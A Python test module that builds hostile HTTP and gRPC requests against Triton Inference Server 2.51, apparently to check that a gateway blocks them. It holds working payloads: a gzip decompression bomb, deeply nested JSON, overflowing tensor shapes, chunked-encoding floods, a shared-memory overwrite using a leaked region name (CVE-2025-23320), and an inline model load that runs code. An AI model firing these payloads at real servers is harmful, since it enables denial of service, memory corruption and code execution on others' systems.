"""The hostile inputs: what is sent, over which protocol, and what it is known to do to a bare Triton 2.51."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import orjson
from tritonclient.grpc import service_pb2

from loadtest.hostile.bare import post
from loadtest.hostile.models import ECHO, REPEAT

_INFER = f"/v2/models/{ECHO}/infer"
_LENGTH = "Inference-Header-Content-Length"
_MIB = 1 << 20
_GZIP = 31  # zlib's word for a gzip member
_OVERWRITTEN_BYTES = 64 * 1024
_STREAMS = 20


@dataclass(frozen=True)
class Target:
    """What a case may know of the Triton that it is meant for.

    Attributes:
        marker: A file that only the client's own code could write.
        regions: Names of the shared memory between this Triton and its Python processes; Triton 2.51 tells a client one
            of them in an error message (CVE-2025-23320).
    """

    marker: Path
    regions: tuple[str, ...]


# A whole HTTP request, the message of a call, or the messages of a stream.
Request = bytes | tuple[bytes, ...]
Make = Callable[[Target], Sequence[Request]]


@dataclass(frozen=True)
class Case:
    """One hostile input.

    Attributes:
        name: What it is called in the table.
        about: What is in it.
        make: Builds its requests.
        method: Method of the gRPC service; empty for HTTP.
        served: Whether it is no mistake of the client's, so that the gateway has to answer it.
    """

    name: str
    about: str
    make: Make
    method: str = ""
    served: bool = False


def _input(name: str, datatype: str, shape: list[int], **more: object) -> dict[str, object]:
    return {"name": name, "datatype": datatype, "shape": shape, **more}


def _deep(opening: bytes, closing: bytes, depth: int) -> Make:
    return lambda _target: [post(_INFER, b'{"inputs":' + opening * depth + b"1" + closing * depth + b"}")]


def _binary(inputs: list[dict[str, object]], data: bytes = b"", **more: object) -> bytes:
    head = orjson.dumps({"inputs": inputs, **more})
    return post(_INFER, head + data, f"{_LENGTH}: {len(head)}")


def _overflow(shape: list[int]) -> Make:
    return lambda _target: [_binary([_input("FP32", "FP32", shape, parameters={"binary_data_size": 0})])]


def _overflow_message(shape: list[int]) -> Make:
    def make(_target: Target) -> list[bytes]:
        message = service_pb2.ModelInferRequest(model_name=ECHO, raw_input_contents=[b""])
        message.inputs.add(name="FP32", datatype="FP32", shape=shape)
        return [message.SerializeToString()]

    return make


def _chunks(count: int, head: str) -> Make:
    lines = f"{head} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    return lambda _target: [lines + b"1\r\nx\r\n" * count + b"0\r\n\r\n"]


def _bomb(inflated_mib: int) -> Make:
    def make(_target: Target) -> list[bytes]:
        packer = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
        piece = b" " * _MIB
        body = b"".join([*(packer.compress(piece) for _ in range(inflated_mib)), packer.flush()])
        return [post(_INFER, body, "Content-Encoding: gzip")]

    return make


def _code(file: Path) -> tuple[str, str]:
    """Return the configuration and the source of a model that writes a file when it is loaded."""
    source = (
        "class TritonPythonModel:\n"
        "    def initialize(self, args):\n"
        f"        open({str(file)!r}, 'w').close()\n"
        "    def execute(self, requests):\n"
        "        return []\n"
    )
    config = {
        "backend": "python",
        "max_batch_size": 0,
        "input": [{"name": "X", "data_type": "TYPE_INT8", "dims": [1]}],
        "output": [{"name": "X", "data_type": "TYPE_INT8", "dims": [1]}],
    }
    return orjson.dumps(config).decode(), source


def _load(target: Target) -> list[bytes]:
    config, source = _code(target.marker)
    encoded = base64.b64encode(source.encode()).decode()
    body = orjson.dumps({"parameters": {"config": config, "file:1/model.py": encoded}})
    return [post("/v2/repository/models/stranger/load", body)]


def _load_message(target: Target) -> list[bytes]:
    config, source = _code(target.marker)
    message = service_pb2.RepositoryModelLoadRequest(model_name="another_stranger")
    message.parameters["config"].string_param = config
    message.parameters["file:1/model.py"].bytes_param = source.encode()
    return [message.SerializeToString()]


def _unload(_target: Target) -> list[bytes]:
    return [post(f"/v2/repository/models/{ECHO}/unload", b"{}")]


def _unload_message(_target: Target) -> list[bytes]:
    return [service_pb2.RepositoryModelUnloadRequest(model_name=ECHO).SerializeToString()]


def _overwrite(target: Target) -> list[bytes]:
    """Register the memory that Triton shares with its Python processes, and have an answer written there."""
    requests = []
    data = b"\xff" * _OVERWRITTEN_BYTES
    for number, region in enumerate(target.regions):
        name = f"mine{number}"
        register = {"key": f"/{region}", "offset": 0, "byte_size": len(data)}
        requests.append(post(f"/v2/systemsharedmemory/region/{name}/register", orjson.dumps(register)))
        place = {"shared_memory_region": name, "shared_memory_byte_size": len(data), "shared_memory_offset": 0}
        tensor = _input("INT8", "INT8", [len(data)], parameters={"binary_data_size": len(data)})
        requests.append(_binary([tensor], data, outputs=[{"name": "INT8", "parameters": place}]))
    return requests


def _mixed(_target: Target) -> list[Request]:
    messages = []
    for model in (REPEAT, ECHO):
        message = service_pb2.ModelInferRequest(model_name=model, raw_input_contents=[b"\7"])
        message.inputs.add(name="INT8", datatype="INT8", shape=[1])
        messages.append(message.SerializeToString())
    return [tuple(messages)] * _STREAMS


def _gigabytes(_target: Target) -> list[bytes]:
    document = {"inputs": [_input("FP32", "FP32", [1 << 18, 1 << 18], data=[1])]}
    return [post(_INFER, orjson.dumps(document))]


def _classes_of_texts(_target: Target) -> list[bytes]:
    text = struct.pack("<I", 1) + b"a"
    wanted = {"name": "STRING", "parameters": {"classification": 2, "binary_data": True}}
    tensor = _input("STRING", "BYTES", [1], parameters={"binary_data_size": len(text)})
    return [_binary([tensor], text, outputs=[wanted])]


def _classes_of_nothing(_target: Target) -> list[bytes]:
    wanted = {"name": "INT8", "parameters": {"classification": 2}}
    document = {"inputs": [_input("INT8", "INT8", [0], data=[])], "outputs": [wanted]}
    return [post(_INFER, orjson.dumps(document))]


CASES = (
    Case("deep JSON", "1,000,000 opening brackets", _deep(b"[", b"]", 1_000_000)),
    Case("deep JSON objects", '300,000 times {"a":', _deep(b'{"a":', b"}", 300_000)),
    Case("dimensions that overflow", "shape [0, 2^61], no data", _overflow([0, 1 << 61])),
    Case("product that wraps to nothing", "shape [2^32, 2^32], no data", _overflow([1 << 32, 1 << 32])),
    Case("dimensions that overflow, gRPC", "shape [0, 2^61], no data", _overflow_message([0, 1 << 61]), "ModelInfer"),
    Case("product that wraps, gRPC", "shape [2^32, 2^32]", _overflow_message([1 << 32, 1 << 32]), "ModelInfer"),
    Case("shape of gigabytes", "shape [2^18, 2^18], one number as JSON", _gigabytes),
    Case("chunks of one byte, inference", "600,000 chunks", _chunks(600_000, f"POST {_INFER}")),
    Case("chunks of one byte, load", "600,000 chunks", _chunks(600_000, "POST /v2/repository/models/x/load")),
    Case("chunks of one byte, index", "600,000 chunks", _chunks(600_000, "POST /v2/repository/index")),
    Case("decompression bomb", "4 GiB of spaces in one gzip member", _bomb(4096)),
    Case("classification of texts", "classification of a BYTES output", _classes_of_texts),
    Case("classification of nothing", "classification of an output without elements", _classes_of_nothing),
    Case("shared memory", "Triton's own, registered and written over", _overwrite),
    Case("inline model", "a model of the client's, in a load request", _load),
    Case("inline model, gRPC", "the same, RepositoryModelLoad", _load_message, "RepositoryModelLoad"),
    Case(
        "mixed stream", "requests for two models, one decoupled, in a stream", _mixed, "ModelStreamInfer", served=True
    ),
    Case("unload", "of the model that others use", _unload),
    Case("unload, gRPC", "the same, RepositoryModelUnload", _unload_message, "RepositoryModelUnload"),
)
